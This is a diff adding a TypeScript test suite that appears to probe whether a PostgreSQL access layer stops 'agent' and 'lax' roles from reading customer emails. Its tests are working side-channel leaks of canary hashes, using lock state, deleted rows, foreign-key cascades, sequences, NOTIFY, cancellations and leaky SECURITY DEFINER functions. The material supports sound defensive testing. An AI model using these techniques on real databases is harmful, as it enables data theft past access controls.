@@ -1,0 +1,159 @@
+/** No value of a customer is written anywhere: what tells is which rows are gone or locked, which sequence was moved, which lock is held, what a definition was worked out to. */
+
+import { attackSuite, statements, type Attacker, type Technique } from '../../support/attack.ts';
+import { rowsOf, type WireClient, type WireMessage } from '../../support/wire-client.ts';
+
+export const traces = attackSuite('traces', {
+  sql: `
+    CREATE FUNCTION public.few_mails() RETURNS text LANGUAGE sql IMMUTABLE SECURITY DEFINER AS $$ SELECT string_agg(email, ' ') FROM crm.customers WHERE id <= 280 $$;
+    CREATE FUNCTION public.shout(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE SECURITY DEFINER AS $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(email, ' ') FROM crm.customers WHERE id > n AND id <= n + 300); RETURN n; END $$;
+    CREATE TABLE public.grid (id int, n int, PRIMARY KEY (id, n)); INSERT INTO public.grid SELECT i, n FROM generate_series(1, 1000) i, generate_series(0, 31) n;
+    CREATE VIEW public.window_on_grid AS SELECT id, n FROM public.grid;
+    CREATE TABLE public.kids (id int REFERENCES crm.customers ON DELETE CASCADE ON UPDATE CASCADE, tag int); INSERT INTO public.kids SELECT g, g FROM generate_series(1, 1000) g; CREATE INDEX ON public.kids (id);
+    CREATE TABLE public.talking (id int); INSERT INTO public.talking VALUES (1000); CREATE INDEX ON public.talking (public.shout(id)); CREATE STATISTICS public.talking_s ON (public.shout(id)) FROM public.talking;
+    GRANT ALL ON public.grid, public.window_on_grid, public.kids TO staff; ALTER TABLE public.talking OWNER TO staff;
+  `,
+});
+const { attack, group } = traces;
+/** The hash of a token: 32 bits. */
+const HASH = `('x' || right(c.email, 8))::bit(32)`;
+const SET = `c.id = g.id AND get_bit(${HASH}, g.n) = 1`;
+const token = (id: unknown, hash: string): string => `cnry-${String(id).padStart(6, '0')}-${hash.padStart(8, '0')} `;
+
+/** Pairs of a customer's number and the number of a bit that is set. */
+function spell(attacker: Attacker, bits: readonly (readonly unknown[])[]): void {
+  const hashes = new Map<string, bigint>();
+  for (const [id, n] of bits) hashes.set(String(id), (hashes.get(String(id)) ?? 0n) | (1n << BigInt(31 - Number(String(n)))));
+  for (const [id, hash] of hashes) attacker.decoded += token(id, hash.toString(16));
+}
+
+function unset(rows: readonly (readonly unknown[])[]): readonly (readonly unknown[])[] {
+  const seen = new Set(rows.map(([id, n]) => `${String(id)} ${String(n)}`));
+  if (seen.size === 0 || seen.size === 32_000) return [];
+  return Array.from({ length: 32_000 }, (_, i) => [1 + (i >> 5), i & 31]).filter(([id, n]) => !seen.has(`${id} ${n}`));
+}
+
+/** One transaction that marks rows of a table of numbers, then a look at what is left of it. */
+const marked = (mark: string, look: string): Technique => async (attacker) => {
+  const client = await attacker.connect();
+  await client.query('BEGIN');
+  await client.query(mark);
+  spell(attacker, rowsOf(await client.query(look)));
+  await client.query('ROLLBACK');
+};
+
+const seenByAnother = (lock: string): Technique => async (attacker) => {
+  const [client, other] = [await attacker.connect(), await attacker.connect()];
+  await client.query('BEGIN');
+  await client.query(lock);
+  spell(attacker, unset(rowsOf(await other.query('SELECT id, n FROM grid FOR UPDATE SKIP LOCKED'))));
+  await client.query('ROLLBACK');
+};
+
+/** A block of code in which each bit of sixteen customers at a time decides whether `tell(bit)` is run. */
+const byBlocks = (customers: number, prepare: (from: number) => string, tell: (bit: number, name: string) => string, hear: (client: WireClient, answer: readonly WireMessage[]) => Promise<readonly string[]>): Technique => async (attacker) => {
+  const client = await attacker.connect();
+  for (let from = 1; from <= customers; from += 16) {
+    const name = (i: number): string => `${from + (i >> 5)}_${i & 31}`;
+    const all = Array.from({ length: 512 }, (_, i) => i);
+    await client.query(prepare(from));
+    const answer = await client.query(`DO $$ BEGIN ${all.map((i) => tell(i, name(i)).replace('BIT', `SELECT get_bit(${HASH}, ${i & 31}) FROM crm.customers c WHERE id = ${from + (i >> 5)}`)).join('\n')} END $$`);
+    const names = await hear(client, answer);
+    spell(attacker, names.map((each) => each.split('_').slice(-2)));
+    await client.query('ROLLBACK');
+  }
+};
+
+for (const role of ['agent', 'lax'] as const) {
+  group(`what is left of other tables, ${role}`, 'derived copies', () => {
+    attack('DELETE of numbers whose bit is not set, by a join', marked(`DELETE FROM grid g USING crm.customers c WHERE ${SET.replace('= 1', '= 0')}`, 'SELECT id, n FROM grid'), role);
+    attack('DELETE of numbers whose bit is not set, by EXISTS', marked(`DELETE FROM grid g WHERE EXISTS (SELECT FROM crm.customers c WHERE ${SET.replace('= 1', '= 0')})`, 'SELECT id, n FROM grid'), role);
+    attack('DELETE by way of a view', marked(`DELETE FROM window_on_grid g USING crm.customers c WHERE ${SET.replace('= 1', '= 0')}`, 'SELECT id, n FROM grid'), role);
+    attack('MERGE that deletes', marked(`MERGE INTO grid g USING crm.customers c ON ${SET.replace('= 1', '= 0')} WHEN MATCHED THEN DELETE`, 'SELECT id, n FROM grid'), role, 0);
+    attack('locked rows, SKIP LOCKED by another session', seenByAnother(`SELECT count(*) FROM (SELECT 1 FROM grid g JOIN crm.customers c ON ${SET} FOR UPDATE OF g) s`), role);
+    attack('rows locked by way of a view and a sub-select', seenByAnother(`SELECT count(*) FROM (SELECT 1 FROM (SELECT * FROM window_on_grid) g JOIN crm.customers c ON ${SET} FOR UPDATE) s`), role);
+    attack('rows locked by a cursor that is only moved', seenByAnother(`DECLARE l CURSOR FOR SELECT 1 FROM grid g JOIN crm.customers c ON ${SET} FOR UPDATE OF g; MOVE ALL IN l`), role);
+    attack('xmax of rows that were locked once', async (attacker) => {
+      const client = await attacker.connect();
+      await client.query(`CREATE TABLE public.${attacker.own} AS SELECT * FROM grid`);
+      await client.query(`SELECT 1 FROM public.${attacker.own} g JOIN crm.customers c ON ${SET} FOR SHARE OF g OFFSET 1000000`);
+      spell(attacker, rowsOf(await client.query(`SELECT id, n FROM public.${attacker.own} WHERE xmax <> 0`)));
+    }, role);
+    attack('keys that a foreign key carries on', async (attacker) => {
+      const client = await attacker.connect();
+      await client.query('BEGIN');
+      await client.query('DELETE FROM crm.invoices');
+      await client.query(`UPDATE crm.customers c SET id = ${HASH}::int`);
+      for (const [tag, id] of rowsOf(await client.query('SELECT tag, id FROM kids'))) attacker.decoded += token(tag, (Number(id?.toString()) >>> 0).toString(16));
+      await client.query('ROLLBACK');
+    }, role);
+    attack('rows that a foreign key takes along', async (attacker) => {
+      const client = await attacker.connect();
+      const bits: (readonly unknown[])[] = [];
+      for (let n = 0; n < 32; n++) {
+        await client.query('BEGIN');
+        await client.query('DELETE FROM crm.invoices');
+        await client.query(`DELETE FROM crm.customers c WHERE get_bit(${HASH}, ${n}) = 0`);
+        for (const [id] of rowsOf(await client.query('SELECT tag FROM kids'))) bits.push([id, n]);
+        await client.query('ROLLBACK');
+      }
+      spell(attacker, bits);
+    }, role);
+    attack('a policy over the class, read past it', async (attacker) => {
+      const client = await attacker.connect();
+      const { own } = attacker;
+      await client.query(`CREATE TABLE public.${own} AS SELECT id, n, false AS is FROM grid`);
+      await client.query(`ALTER TABLE public.${own} ENABLE ROW LEVEL SECURITY; ALTER TABLE public.${own} FORCE ROW LEVEL SECURITY`);
+      await client.query(`CREATE POLICY seen ON public.${own} FOR SELECT USING (true)`);
+      await client.query(`CREATE POLICY changed ON public.${own} FOR UPDATE USING (EXISTS (SELECT FROM crm.customers c WHERE c.id = ${own}.id AND get_bit(${HASH}, ${own}.n) = 1))`);
+      await client.query(`UPDATE public.${own} SET "is" = true`);
+      await client.query(`DROP POLICY changed ON public.${own}`);
+      spell(attacker, rowsOf(await client.query(`SELECT id, n FROM public.${own} WHERE "is"`)));
+    }, role);
+  });
+
+  group(`what the server can be asked afterwards, ${role}`, 'side channels', () => {
+    attack('sequences that are named by the row, moved as often as its digits say', async (attacker) => {
+      const client = await attacker.connect();
+      const customers = 250;
+      for (let id = 1; id <= customers; id += 50) await client.query(Array.from({ length: 50 }, (_, k) => `CREATE TEMP SEQUENCE s${id + k}a; CREATE TEMP SEQUENCE s${id + k}b`).join(';'));
+      for (const [half, from] of [['a', 1], ['b', 5]] as const) {
+        await client.query(`SELECT count(nextval('s' || id || '${half}')) FROM crm.customers, generate_series(0, ('x' || substr(right(email, 8), ${from}, 4))::bit(16)::int) WHERE id <= ${customers}`, 60_000);
+      }
+      const values = new Map(rowsOf(await client.query(`SELECT sequencename, last_value - 1 FROM pg_sequences WHERE schemaname LIKE 'pg_temp%' AND last_value IS NOT NULL`)).map(([name, value]) => [String(name), Number(value?.toString())]));
+      for (let id = 1; id <= customers; id++) attacker.decoded += token(id, `${(values.get(`s${id}a`) ?? 0).toString(16).padStart(4, '0')}${(values.get(`s${id}b`) ?? 0).toString(16).padStart(4, '0')}`);
+    }, role);
+    attack('a block that NOTIFYs without payload', byBlocks(256, (from) => Array.from({ length: 512 }, (_, i) => `LISTEN c_${from + (i >> 5)}_${i & 31}`).join(';'), (_, name) => `IF (BIT) = 1 THEN NOTIFY c_${name}; END IF;`,
+      async (_client, answer) => answer.filter(({ type }) => type === 'A').map(({ body }) => body.toString('latin1', 4).split('\0')[0] ?? '')), role);
+    attack('a block that locks tables, pg_locks', byBlocks(256, (from) => (from === 1 ? `${Array.from({ length: 512 }, (_, i) => `CREATE TEMP TABLE l_${i} ()`).join(';')}; BEGIN` : 'BEGIN'), (i) => `IF (BIT) = 1 THEN LOCK TABLE l_${i} IN EXCLUSIVE MODE; END IF;`,
+      async (client) => rowsOf(await client.query(`SELECT relname FROM pg_locks l JOIN pg_class c ON c.oid = l.relation WHERE mode = 'ExclusiveLock' AND relname LIKE 'l\\_%'`)).map(([name]) => `l_0_${String(name).slice(2)}`)), role, 0);
+    attack('a block whose errors decide what is written', byBlocks(256, () => 'CREATE TEMP TABLE IF NOT EXISTS w (id text); TRUNCATE w', (_, name) => `BEGIN PERFORM 1 / (1 - (BIT)); EXCEPTION WHEN division_by_zero THEN INSERT INTO w VALUES ('${name}'); END;`,
+      async (client) => rowsOf(await client.query('SELECT id FROM w')).map(([name]) => String(name))), role);
+    attack('a block that writes IF FOUND', byBlocks(256, () => 'CREATE TEMP TABLE IF NOT EXISTS w (id text); TRUNCATE w', (_, name) => `PERFORM 1 WHERE (BIT) = 1; IF FOUND THEN INSERT INTO w VALUES ('${name}'); END IF;`,
+      async (client) => rowsOf(await client.query('SELECT id FROM w')).map(([name]) => String(name))), role);
+    attack('sessions that are cancelled, a hundred and twenty-eight bits a statement', async (attacker) => {
+      const talker = await attacker.connect();
+      const sleepers = await Promise.all(Array.from({ length: 128 }, () => attacker.connect()));
+      const pids = await Promise.all(sleepers.map(async (each) => String(rowsOf(await each.query('SELECT pg_backend_pid()'))[0]?.[0])));
+      for (let id = 1; id <= 212; id += 4) {
+        const answers = sleepers.map((each) => each.query('SELECT pg_sleep(0.3)'));
+        await new Promise((resolve) => setTimeout(resolve, 100));
+        await talker.query(`SELECT count(pg_cancel_backend((ARRAY[${pids.join(',')}])[(c.id - ${id}) * 32 + n + 1])) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 4} AND get_bit(${HASH}, n) = 1`);
+        const cancelled = (await Promise.all(answers)).map((answer) => answer.some(({ type, body }) => type === 'E' && body.includes('57014')));
+        if (!cancelled.includes(true)) break;
+        spell(attacker, cancelled.flatMap((is, i) => (is ? [[id + (i >> 5), i & 31]] : [])));
+      }
+    }, role);
+  });
+
+  group(`what definitions keep, ${role}`, 'side doors', () => {
+    attack('bounds of a partition, pg_get_expr', statements(({ own }) => `CREATE TABLE ${own} (e text) PARTITION BY LIST (e)`, ({ own }) => `CREATE TABLE ${own}_1 PARTITION OF ${own} FOR VALUES IN (public.few_mails())`, ({ own }) => `SELECT pg_get_expr(relpartbound, oid) FROM pg_class WHERE relname = '${own}_1'`), role);
+    attack('bounds of a partition that is attached', statements(({ own }) => `CREATE TABLE ${own} (e text) PARTITION BY LIST (e); CREATE TABLE ${own}_1 (e text)`, ({ own }) => `ALTER TABLE ${own} ATTACH PARTITION ${own}_1 FOR VALUES IN (public.few_mails())`, ({ own }) => `SELECT relpartbound FROM pg_class WHERE relname = '${own}_1'`, ({ own }) => `SELECT pg_get_partition_constraintdef('${own}_1'::regclass)`), role);
+    attack('the value that old rows have of a new column, pg_attribute', statements(({ own }) => `CREATE TABLE ${own} (id int)`, ({ own }) => `INSERT INTO ${own} VALUES (1)`, ({ own }) => `ALTER TABLE ${own} ADD COLUMN e text DEFAULT public.few_mails()`, ({ own }) => `SELECT attmissingval FROM pg_attribute WHERE attrelid = '${own}'::regclass AND attname = 'e'`), role);
+    attack('REINDEX of an index that talks', statements('REINDEX TABLE talking'), role);
+    attack('REINDEX of the index itself', statements('REINDEX INDEX talking_shout_idx'), role);
+    attack('ANALYZE of statistics that talk', statements('ANALYZE talking'), role);
+    attack('VACUUM FULL and CLUSTER of an index that talks', statements('VACUUM FULL talking'), role);
+    attack('ALTER TABLE that writes the rows anew', statements('ALTER TABLE talking ALTER id TYPE bigint, ALTER id TYPE int'), role, 0);
+  });
+}
